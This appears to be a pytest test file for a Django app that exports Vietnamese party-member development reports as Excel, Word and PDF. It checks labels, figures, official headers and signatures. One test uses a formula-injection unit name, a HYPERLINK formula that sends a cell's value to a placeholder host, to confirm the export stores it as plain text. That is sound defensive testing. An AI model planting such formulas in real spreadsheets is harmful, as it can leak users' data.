import datetime as dt
import io

import docx
import openpyxl
import pytest
from django.utils import translation
from django.utils.translation import gettext as _
from pypdf import PdfReader

from pdms.accounts.scope import system_scope
from pdms.documents.testing import docx_lines
from pdms.organizations.services import organization_rename
from pdms.reporting.exports import summary_docx, summary_filename, summary_pdf, summary_xlsx
from pdms.reporting.summary import summary_report
from pdms.targets.services import plan_create

from .conftest import AS_OF

HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"y")'


def _vi(text):
    with translation.override("vi"):
        return _(text)


def general_rows(content) -> dict:
    """The first sheet's figures by their label: (number, of, percent)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return {row[0]: row[1:4] for row in sheet.iter_rows(min_row=12, values_only=True) if row[0]}


def test_the_workbook_holds_the_figures_under_their_vietnamese_labels(term_report):
    content = summary_xlsx(term_report)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["D1"].value == "ĐẢNG CỘNG SẢN VIỆT NAM" and "ngày 30 tháng 06 năm 2022" in sheet["D2"].value
    assert sheet["A5"].value == _vi("Report").upper() and "2020–2025" in sheet["A6"].value
    figures = general_rows(content)
    assert figures["Kết nạp trong kỳ"][0] == 3
    assert figures["Tỷ lệ hoàn thành chỉ tiêu kết nạp"] == (3, 3, 100.0)
    assert figures["Đơn vị đạt, vượt chỉ tiêu kết nạp"] == (1, 2, 50.0)
    assert figures["Tăng, giảm số kết nạp so với cùng kỳ năm trước (%)"][2] == 200.0


def test_the_workbook_names_no_indicator_by_its_code(term_report):
    sheet = openpyxl.load_workbook(io.BytesIO(summary_xlsx(term_report))).worksheets[0]
    cells = {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert sheet.max_column == 4
    assert not cells & {"admissions", "quota_achievement", "sources_by_group", "members_total", "Mã chỉ số"}


def test_the_workbook_lists_the_ranked_units_and_draws_native_charts(term_report):
    book = openpyxl.load_workbook(io.BytesIO(summary_xlsx(term_report)))
    units, series = book.worksheets[1], book.worksheets[2]
    rows = [row[1:7] for row in units.iter_rows(min_row=3, values_only=True)]
    assert rows == [("X01", "Đảng bộ xã Hà Mòn", 1, 2, 200.0, 1), ("X02", "Đảng bộ xã Ngọc Wang", 2, 1, 50.0, -1)]
    assert [row for row in series.iter_rows(min_row=3, values_only=True)] == [("2020", 0), ("2021", 1), ("2022", 2)]
    assert len(units._charts) == 1 and len(series._charts) == 1


def test_a_unit_named_like_a_formula_is_plain_text_in_the_workbook(progress, plan):
    organization_rename(organization=progress.commune_a, name=HOSTILE_NAME, on=dt.date(2011, 1, 1), actor=None)
    report = summary_report(system_scope(), plan, progress.district, AS_OF, "term")
    cell = openpyxl.load_workbook(io.BytesIO(summary_xlsx(report))).worksheets[1]["C3"]
    assert (cell.value, cell.data_type) == (HOSTILE_NAME, "s")


def test_the_word_document_is_a_party_report_with_the_figures_and_two_chart_images(term_report):
    document = docx.Document(io.BytesIO(summary_docx(term_report)))
    header = document.tables[0]
    assert "HUYỆN ỦY ĐẮK HÀ" in header.cell(0, 0).text and "Số …………-BC/HU" in header.cell(0, 0).text
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in header.cell(0, 1).text and "Đắk Hà, ngày 30 tháng 06 năm 2022" in header.cell(0, 1).text
    text = "\n".join(p.text for p in document.paragraphs)
    assert _vi("Report").upper() in text and "09-KH/HU" in text
    assert "3/3 (100,00%)" in text and "1/2 (50,00%)" in text
    units = document.tables[1]
    assert [[c.text for c in row.cells][1:6] for row in units.rows[1:]] == [
        ["X01", "Đảng bộ xã Hà Mòn", "1", "2", "200,00%"], ["X02", "Đảng bộ xã Ngọc Wang", "2", "1", "50,00%"],
    ]
    assert len(document.inline_shapes) == 2


def test_the_pdf_shows_the_figures_and_the_charts(term_report, pdf_font):
    content = summary_pdf(term_report)
    pdf = PdfReader(io.BytesIO(content))
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in text and "09-KH/HU" in text
    assert "3/3 (100,00%)" in text and "1/2 (50,00%)" in text
    assert "Đảng bộ xã Hà Mòn" in text and "200,00%" in text
    images = sum(len(page.images) for page in pdf.pages)
    assert images == 2 and len(pdf.pages) >= 2


def test_the_file_name_is_ascii(term_report):
    name = summary_filename("term", "H01", term_report.as_of, "pdf")
    assert name == "bao-cao-phat-trien-dang-vien-H01-nhiem-ky-20220630.pdf" and name.isascii()


def test_the_figures_do_not_depend_on_the_request_language(term_report):
    with translation.override("en"):
        content = summary_xlsx(term_report)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["D1"].value == "ĐẢNG CỘNG SẢN VIỆT NAM"
    assert (sheet.cell(12, 1).value, sheet.cell(12, 2).value) == ("Kết nạp trong kỳ", 3)


def test_a_units_shortfall_reads_as_one_in_the_files(term_report):
    # Ngọc Wang's quota was cut to 2 and it admitted 1.
    assert [row.excess for row in term_report.units] == ["+1", "còn thiếu 1"]
    sheet = openpyxl.load_workbook(io.BytesIO(summary_xlsx(term_report))).worksheets[1]
    [cell] = [row[6] for row in sheet.iter_rows() if row[2].value == "Đảng bộ xã Ngọc Wang"]
    assert cell.value == -1 and '"còn thiếu "' in cell.number_format


@pytest.fixture
def province_report(progress):
    """The term report of the provincial committee, under its own plan."""
    plan = plan_create(
        organization=progress.province, number="05-KH/TU", title="Kế hoạch phát triển đảng viên nhiệm kỳ 2020–2025",
        issued_on=dt.date(2020, 10, 6), term_start=dt.date(2020, 8, 1), term_end=dt.date(2025, 7, 31), actor=None,
    )
    return summary_report(system_scope(), plan, progress.province, AS_OF, "term")


def test_a_provincial_committee_heads_its_report_with_its_official_name(province_report):
    document = docx.Document(io.BytesIO(summary_docx(province_report)))
    left = [p.text for p in document.tables[0].cell(0, 0).paragraphs]
    right = [p.text for p in document.tables[0].cell(0, 1).paragraphs]
    assert left == ["TỈNH ỦY KON TUM", "*", "Số …………-BC/TU"]
    assert right == ["ĐẢNG CỘNG SẢN VIỆT NAM", "Kon Tum, ngày 30 tháng 06 năm 2022"]


def test_the_report_is_signed_on_behalf_of_the_standing_committee_and_addressed(province_report, term_report):
    closing = docx.Document(io.BytesIO(summary_docx(term_report))).tables[-1]
    recipients = [p.text for p in closing.cell(0, 0).paragraphs]
    signature = [p.text for p in closing.cell(0, 1).paragraphs]
    assert recipients == ["Nơi nhận:", "- Tỉnh ủy Kon Tum (để báo cáo),", "- Lưu Văn phòng cấp ủy."]
    assert signature == ["T/M BAN THƯỜNG VỤ", "BÍ THƯ", "…………"]
    province = docx.Document(io.BytesIO(summary_docx(province_report))).tables[-1]
    assert "- Ban Tổ chức Trung ương (để báo cáo)," in [p.text for p in province.cell(0, 0).paragraphs]


def test_the_workbook_and_the_pdf_carry_the_same_heading_and_closing(term_report, pdf_font):
    sheet = openpyxl.load_workbook(io.BytesIO(summary_xlsx(term_report))).worksheets[0]
    assert [sheet["A2"].value, sheet["A3"].value] == ["HUYỆN ỦY ĐẮK HÀ", "Số …………-BC/HU"]
    closing = [(row[0], row[3]) for row in sheet.iter_rows(min_row=sheet.max_row - 4, values_only=True)]
    assert closing == [
        ("Nơi nhận:", "T/M BAN THƯỜNG VỤ"), ("- Tỉnh ủy Kon Tum (để báo cáo),", "BÍ THƯ"),
        ("- Lưu Văn phòng cấp ủy.", None), (None, None), (None, "…………"),
    ]
    text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(summary_pdf(term_report))).pages)
    assert "HUYỆN ỦY ĐẮK HÀ" in text and "Số …………-BC/HU" in text
    assert "Nơi nhận:" in text and "T/M BAN THƯỜNG VỤ" in text and "Tỉnh ủy Kon Tum (để báo cáo)" in text


def test_source_groups_are_items_under_the_sources_without_a_doubled_mark(term_report):
    found = docx_lines(summary_docx(term_report))
    groups = [line for line in found if line.startswith("+ ")]
    assert groups and groups[0].startswith("+ Đoàn Thanh niên: ")
    assert not [line for line in found if line.startswith(("- –", "- -", "- +"))]


def test_a_shortfall_reads_as_one_in_the_general_results(progress, plan):
    report = summary_report(system_scope(), plan, progress.commune_b, AS_OF, "term")
    lines = docx_lines(summary_docx(report))
    assert "- Số kết nạp vượt (+)/còn thiếu so với chỉ tiêu: còn thiếu 1" in lines
    assert not [line for line in lines if "vượt chỉ tiêu: còn thiếu" in line or ": -1" in line]
    figures = general_rows(summary_xlsx(report))
    assert figures["Số kết nạp vượt (+)/còn thiếu so với chỉ tiêu"][0] == -1
